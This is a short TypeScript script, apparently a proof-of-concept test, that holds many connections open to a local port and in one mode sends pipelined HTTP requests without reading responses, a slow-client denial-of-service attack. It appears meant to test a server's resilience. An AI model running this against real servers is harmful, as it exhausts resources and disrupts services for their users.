import { connect } from 'node:net'

/*
 * Holds connections to a port until the process is killed, and reopens those that end. `idle` sends nothing. `unread`
 * sends 20 requests each second and reads no response.
 *
 *   node dist/test/proof/attack.js idle|unread PORT CONNECTIONS
 */
const [kind, port, connections] = process.argv.slice(2)
const requests = 'GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(20)

function open (): void {
  const socket = connect(Number(port), '127.0.0.1').on('error', () => {})
  const sending = kind === 'unread' ? setInterval(() => socket.write(requests), 1000) : undefined
  if (kind === 'unread') socket.pause()
  else socket.resume()
  socket.on('close', () => {
    clearInterval(sending)
    setTimeout(open, 1000)
  })
}
for (let opened = 0; opened < Number(connections); opened++) setTimeout(open, opened / 2) // 2,000 in a second
